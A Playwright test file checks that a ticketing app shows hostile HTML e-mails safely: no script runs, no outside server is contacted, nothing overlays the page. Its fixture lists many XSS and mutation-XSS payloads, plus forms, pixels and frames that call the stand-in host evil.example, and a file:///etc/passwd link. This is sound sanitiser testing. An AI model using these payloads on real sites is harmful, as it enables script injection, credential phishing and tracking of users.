"""HTML that means harm comes in by e-mail and is opened in a real browser under the real policy.

Nothing of it runs, asks another server, covers the page or sends a form; and the policy has nothing
to refuse, because nothing was left for it.
"""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request, Route, expect

from tests.browser.test_journeys import log_in
from tests.email.conftest import GIULIA, SUPPORT, after
from tickets.domain.mail.outcome import Outcome
from tickets.models import Mailbox
from tickets.services.email.incoming.receive import receive

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = "https://evil.example"
OWN = ("localhost", "127.0.0.1", None)
RUN = "window.ran=(window.ran||[]).concat(1)"
DATA_PAGE = f"data:text/html,<script>{RUN}</script>"
FRAGMENTS = {
    "script": f"<script>{RUN}</script><script src={EVIL}/a.js></script>"
    f"<scr<script>ipt>{RUN}</script>",
    "handlers": f'<img src=x onerror="{RUN}"><b onmouseover="{RUN}">x</b><body onload="{RUN}">'
    f'<details open ontoggle="{RUN}">x</details><p onanimationstart="{RUN}" autofocus tabindex=1 '
    f'onfocus="{RUN}">x</p><video><source onerror="{RUN}"></video><marquee onstart="{RUN}">x',
    "links": f'<a href="javascript:{RUN}">a</a><a href="JaVa&#10;ScRiPt:{RUN}">b</a>'
    f'<a href="&#1;javascript:{RUN}">c</a><a href="vbscript:x">d</a><a href="{DATA_PAGE}">e</a>'
    '<a href="file:///etc/passwd">f</a><a href="blob:x">g</a><a href="//evil.example/p">h</a>'
    f'<a href="{EVIL}" ping="{EVIL}/ping" target=_top download>i</a>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text>x'
    f'</text></a><image href="{EVIL}/a.png"/><use href="{EVIL}/a.svg#x"/><animate onbegin="{RUN}" '
    f'attributeName=x dur=1s /><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "math": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction>'
    f'<mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext>',
    "styles": f"<style>@import url({EVIL}/a.css);body{{background:url({EVIL}/b.png)}}"
    "* {display:none !important}</style>"
    f'<p style="background:url({EVIL}/c.png);position:fixed;inset:0;z-index:9999">x</p>'
    f"<link rel=stylesheet href={EVIL}/d.css><link rel=preload as=image href={EVIL}/e.png>"
    f'<table background="{EVIL}/f.png"><td background="{EVIL}/g.png">x</table>',
    "base and refresh": f'<base href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}">'
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><a href="/x">x</a>'
    "<img src=relative.png><img src=/relative.png>",
    "forms": f'<form action="{EVIL}" id=f><input name=password autofocus>'
    f'<button formaction="{EVIL}">'
    f"Log in</button><textarea name=a></textarea><select><option>x</select></form>"
    f'<input form=f type=image src="{EVIL}/a.png"><isindex action={EVIL}><keygen>',
    "frames": f'<iframe src="{EVIL}"></iframe><iframe srcdoc="<script>parent.ran=[1]</script>">'
    f'</iframe><frameset><frame src="{EVIL}"></frameset><object data="{EVIL}/a.swf"></object>'
    f'<embed src="{EVIL}/a.swf"><applet code=a archive={EVIL}/a.jar></applet><portal src={EVIL}>',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">Log in</div>'
    '<div style="position:absolute;top:-500px">x</div><dialog open>x</dialog>'
    '<p popover=manual class="fixed inset-0 z-50 bg-error">x</p>'
    '<div class="modal modal-open"><div class="modal-box">x</div></div>',
    "template": f'<template><img src=x onerror="{RUN}"></template><noscript><p title="</noscript>'
    f'<img src=x onerror={RUN}>"></noscript><div><template shadowrootmode=open>'
    f"<script>{RUN}</script>"
    "</template></div><slot name=x>y</slot>",
    "clobbering": "<a id=htmx href=x>x</a><img name=body><form name=cookie></form>"
    '<a id=config>x</a><a id=config name=url href="tel:1">x</a><img id=getElementById>'
    "<p id=conversation>x</p>",
    "htmx": f'<a hx-get="{EVIL}" hx-trigger=load>x</a><div hx-on:load="{RUN}" '
    f'data-hx-get="/tickets/" data-hx-trigger=load data-live="{EVIL}" x-init="{RUN}">x</div>',
    "mXSS comments": f'<!--><img src=x onerror="{RUN}">--><!-- --!><img src=x onerror="{RUN}">-->'
    f'<!-<img src=x onerror="{RUN}">--><![CDATA[<img src=x onerror="{RUN}">]]><?x <img src=x '
    f'onerror="{RUN}">?>',
    "mXSS in svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mXSS in math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img '
    f'src=1 onerror={RUN}&gt;">',
    "mXSS nested forms": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror="
    f'"{RUN}"></form>',
    "mXSS raw text": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><noembed><p title="'
    f'</noembed><img src=x onerror={RUN}>"></noembed><plaintext><script>{RUN}</script>',
    "mXSS title": f'<title><p title="</title><img src=x onerror={RUN}>"></title><textarea>'
    f'<p title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "mXSS quotes": f"<p title='\"><img src=x onerror={RUN}>'>x</p><p title=`a onload={RUN}`>"
    f'<a title="&quot; onmouseover={RUN} &quot;">x</a><img alt="`><script>{RUN}</script>" src=x>',
    "nesting": "<div>" * 3_000 + "<table><tr><td>" * 1_000 + "deep" + f"<script>{RUN}</script>",
    "pictures": f'<img src="{EVIL}/pixel.gif" width=1 height=1><img src="http://evil.example/b.gif">'
    f'<img srcset="{EVIL}/c.gif 2x" src=d><picture><source srcset="{EVIL}/d.gif"></picture>'
    f'<img src="//evil.example/e.gif"><video poster="{EVIL}/f.gif"></video><audio src={EVIL}/g.mp3>'
    f'</audio><img lowsrc="{EVIL}/h.gif" dynsrc={EVIL}/i.gif><bgsound src={EVIL}/j>',
    "pictures of others": '<img src="cid:somebody@else"><img src="cid:../../1/0"><img src="cid:">'
    '<img src="/tickets/1/files/x/0/"><img src="data:image/svg+xml,<svg onload=1>">',
}
SAID = "A line that everybody may read."
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event => {
  window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`);
});
"""
PIXEL = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
TWO_FRAMES = "new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
"""What a page does by itself after it is loaded has begun by then, such as to go elsewhere."""
STATE = """() => {
  const shown = document.querySelector("article.email-html") ?? document.createElement("p");
  const all = [...shown.querySelectorAll("*")];
  const moved = all.filter(one => !["static"].includes(getComputedStyle(one).position));
  const own = [...document.querySelectorAll("header a, nav a, main h1")].filter(one => {
    const box = one.getBoundingClientRect();
    return box.width && box.top >= 0 && box.bottom <= innerHeight;
  });
  const covered = own.filter(one => {
    const box = one.getBoundingClientRect();
    const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    return top && shown.contains(top);
  });
  return {
    ran: window.ran ?? null,
    violations: window.violations,
    acting: all.map(one => one.localName).filter(name => [
      "script", "style", "link", "meta", "base", "form", "input", "button", "textarea", "select",
      "iframe", "frame", "object", "embed", "svg", "math", "template", "dialog", "video", "audio",
    ].includes(name)),
    attributes: [...new Set(all.flatMap(one => one.getAttributeNames()))],
    schemes: [...new Set([...shown.querySelectorAll("a[href]")].map(one => one.protocol))],
    moved: moved.map(one => one.outerHTML.slice(0, 80)),
    covered: covered.map(one => one.outerHTML.slice(0, 80)),
    own: own.length,
    clobbered: !(document.body instanceof HTMLBodyElement) || typeof document.cookie !== "string"
      || typeof document.getElementById !== "function",
    text: shown.textContent,
  };
}"""
HARMLESS = {
    *("href", "rel", "src", "alt", "width", "height", "title", "dir", "lang", "colspan", "rowspan"),
    *("align", "valign", "start", "color"),
}


def mail(fragment: str, place: int) -> bytes:
    html = f"<html><body><p>{SAID}</p>{fragment}</body></html>"
    return (
        f"From: Giulia <{GIULIA}>\r\nTo: {SUPPORT}\r\nSubject: Harm\r\n"
        f"Message-ID: <h{place}@posta.example>\r\nReferences: <h0@posta.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html
    ).encode()


@pytest.fixture
def asked(page: Page) -> list[Request]:
    """What the browser asked of others than the desk; nobody of them is reached."""
    found: list[Request] = []

    def elsewhere(route: Route, request: Request) -> None:
        found.append(request)
        route.fulfill(body=PIXEL, content_type="image/gif")

    page.context.route(lambda address: urlsplit(address).hostname not in OWN, elsewhere)
    page.context.add_init_script(WATCH)
    page.on("dialog", lambda dialog: found.append(dialog) or dialog.dismiss())
    return found


@pytest.fixture
def arrived(desk) -> dict[str, str]:
    """The address of each mail's HTML, all of one ticket: by fragment; and the ticket's as ""."""
    Mailbox.objects.create(name="support", address=SUPPORT)
    addresses: dict[str, str] = {}
    for place, (name, fragment) in enumerate(FRAGMENTS.items()):
        found = receive(mail(fragment, place), now=after(minutes=place * 10))
        assert found.outcome in (Outcome.TICKET, Outcome.REPLY), name
        addresses[""] = f"/tickets/{found.ticket_id}/"
        addresses[name] = f"/tickets/{found.ticket_id}/messages/{found.communication_id}/html/"
    return addresses


def looked(page: Page, address: str) -> dict:
    page.goto(address)
    page.evaluate(TWO_FRAMES)
    return page.evaluate(STATE)


def is_harmless(state: dict) -> bool:
    harm = ("ran", "violations", "acting", "moved", "covered", "clobbered")
    return not any(state[one] for one in harm) and state["own"] > 0


def test_hostile_html_is_shown_and_does_nothing(page: Page, arrived, asked, looked_at):
    log_in(page, "rosa")
    shown = {name: looked(page, address) for name, address in arrived.items() if name}
    ticket = looked(page, arrived[""])

    for name, state in shown.items():
        assert is_harmless(state), (name, state)
        assert SAID in state["text"], name
        assert set(state["attributes"]) <= HARMLESS, name
        assert set(state["schemes"]) <= {"http:", "https:", "mailto:"}, name
    assert is_harmless(ticket), ticket
    assert page.get_by_text(SAID).count() >= len(shown)
    assert asked == []
    looked_at(
        f"{len(shown)} hostile mails opened in Chromium, and their ticket: no script ran, nothing "
        "was asked of another server, the policy refused nothing"
    )


def test_pictures_of_others_are_asked_for_once_somebody_wants_them(page: Page, arrived, asked):
    log_in(page, "rosa")
    page.goto(arrived["pictures"])
    assert asked == []

    page.get_by_role("link", name="Load once").click()
    page.wait_for_load_state("networkidle")
    expect(page.locator("article.email-html")).to_contain_text(SAID)

    state = page.evaluate(STATE)
    assert is_harmless(state), state
    assert sorted(one.url for one in asked) == [
        "http://evil.example/b.gif",
        f"{EVIL}/pixel.gif",
    ]
    for one in asked:
        assert (one.method, one.resource_type) == ("GET", "image")
        assert "referer" not in one.headers
        assert "cookie" not in one.headers

    asked.clear()
    looked(page, arrived["pictures"])
    assert asked == [], "it was for once"


def test_pictures_let_nothing_else_in(page: Page, arrived, asked):
    """The page that loads pictures has a wider policy: the other mails are as harmless there."""
    log_in(page, "rosa")
    for name, address in arrived.items():
        if name:
            state = looked(page, f"{address}pictures/")
            assert is_harmless(state), (name, state)
    assert {one.resource_type for one in asked} == {"image"}
